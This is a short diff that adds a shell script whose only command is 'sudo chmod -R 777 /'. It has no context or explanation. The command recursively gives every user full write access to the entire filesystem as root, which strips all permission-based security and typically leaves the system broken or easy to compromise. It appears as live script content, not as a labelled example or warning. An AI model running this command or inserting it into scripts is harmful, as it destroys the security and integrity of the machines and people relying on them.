@@ -1,0 +1,2 @@
+#!/bin/sh
+sudo chmod -R 777 /
